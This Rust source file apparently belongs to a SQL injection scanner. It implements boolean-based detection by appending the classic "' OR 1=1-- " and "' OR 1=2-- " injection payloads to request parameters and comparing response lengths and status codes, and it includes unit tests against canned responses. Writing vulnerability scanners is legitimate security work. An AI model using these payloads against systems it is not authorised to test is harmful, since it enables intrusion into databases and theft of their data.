//! Boolean-based detection: inject TRUE and FALSE conditions and compare
//! the response shapes.

use crate::core::context::ScanContext;
use crate::core::result::Vulnerability;
use crate::http::response::ResponseSnapshot;
use crate::sqli::InjectionStrategy;
use async_trait::async_trait;

// Some backends are picky about comments; these work on MySQL, PostgreSQL
// and MSSQL alike.
const TRUE_SUFFIX: &str = "' OR 1=1-- ";
const FALSE_SUFFIX: &str = "' OR 1=2-- ";

pub struct BooleanBased;

#[async_trait]
impl InjectionStrategy for BooleanBased {
    fn name(&self) -> &'static str {
        "Boolean-based"
    }

    async fn detect(&self, ctx: &ScanContext<'_>, param_index: usize) -> Option<Vulnerability> {
        let param = &ctx.target.parameters()[param_index];

        let true_payload = format!("{}{}", param.value, TRUE_SUFFIX);
        let false_payload = format!("{}{}", param.value, FALSE_SUFFIX);

        let true_spec = ctx.target.to_injected_request(param_index, &true_payload);
        let true_resp = ctx.transport.send(&true_spec).await;

        let false_spec = ctx.target.to_injected_request(param_index, &false_payload);
        let false_resp = ctx.transport.send(&false_spec).await;

        // The injected condition only demonstrably reaches the query when
        // the TRUE response differs from baseline AND from the FALSE
        // response.
        let true_vs_base = is_significantly_different(ctx.baseline, &true_resp);
        let true_vs_false = is_significantly_different(&true_resp, &false_resp);

        if true_vs_base && true_vs_false {
            let evidence = format!(
                "Boolean-based SQL injection detected.\n\
                 Parameter        : {}\n\
                 True payload     : {}\n\
                 False payload    : {}\n\
                 Reason           : Response for TRUE condition differs from both baseline and FALSE condition.\n\
                 Baseline length  : {}\n\
                 TRUE length      : {}\n\
                 FALSE length     : {}",
                param.name,
                true_payload,
                false_payload,
                ctx.baseline.body_len(),
                true_resp.body_len(),
                false_resp.body_len()
            );

            return Some(Vulnerability {
                parameter: param.clone(),
                parameter_index: param_index,
                strategy: self.name().to_string(),
                payload: true_payload,
                evidence,
            });
        }

        None
    }
}

/// Differing status codes, or a body-length swing above 20% relative to the
/// first response.
fn is_significantly_different(a: &ResponseSnapshot, b: &ResponseSnapshot) -> bool {
    if a.status != b.status {
        return true;
    }

    let len_a = a.body_len();
    let len_b = b.body_len();
    if len_a == 0 && len_b == 0 {
        return false;
    }

    let diff = len_a.abs_diff(len_b);
    let ratio = if len_a > 0 {
        diff as f64 / len_a as f64
    } else {
        1.0
    };

    ratio > 0.2
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::target::Target;
    use crate::http::client::Transport;
    use crate::http::request::{HttpMethod, RequestSpec};
    use crate::sqli::dbms::DBMS;

    struct CannedPages {
        true_len: usize,
        false_len: usize,
        other_len: usize,
    }

    #[async_trait]
    impl Transport for CannedPages {
        async fn send(&self, spec: &RequestSpec) -> ResponseSnapshot {
            let url = urlencoding::decode(&spec.url)
                .map(|c| c.into_owned())
                .unwrap_or_else(|_| spec.url.clone());
            let len = if url.contains("OR 1=1") {
                self.true_len
            } else if url.contains("OR 1=2") {
                self.false_len
            } else {
                self.other_len
            };
            ResponseSnapshot::new(200, Some("x".repeat(len)), 10)
        }
    }

    async fn run_detect(transport: &dyn Transport, baseline_len: usize) -> Option<Vulnerability> {
        let target = Target::from_url("http://example.com/item?id=1", HttpMethod::Get, None, &[]);
        let baseline = ResponseSnapshot::new(200, Some("x".repeat(baseline_len)), 10);
        let ctx = ScanContext {
            transport,
            target: &target,
            baseline: &baseline,
            dbms: DBMS::Unknown,
            dialect: None,
        };
        BooleanBased.detect(&ctx, 0).await
    }

    #[tokio::test]
    async fn test_identical_responses_are_not_flagged() {
        let transport = CannedPages {
            true_len: 1000,
            false_len: 1000,
            other_len: 1000,
        };
        assert!(run_detect(&transport, 1000).await.is_none());
    }

    #[tokio::test]
    async fn test_true_condition_shrinking_page_is_flagged() {
        let transport = CannedPages {
            true_len: 500,
            false_len: 1000,
            other_len: 1000,
        };
        let vuln = run_detect(&transport, 1000).await.expect("should flag");
        assert_eq!(vuln.strategy, "Boolean-based");
        assert!(vuln.payload.ends_with(TRUE_SUFFIX));
    }

    #[test]
    fn test_difference_rule_boundaries() {
        let a = ResponseSnapshot::new(200, Some("x".repeat(1000)), 0);
        let within = ResponseSnapshot::new(200, Some("x".repeat(1200)), 0);
        let beyond = ResponseSnapshot::new(200, Some("x".repeat(1201)), 0);
        let status = ResponseSnapshot::new(500, Some("x".repeat(1000)), 0);

        assert!(!is_significantly_different(&a, &within));
        assert!(is_significantly_different(&a, &beyond));
        assert!(is_significantly_different(&a, &status));
    }
}
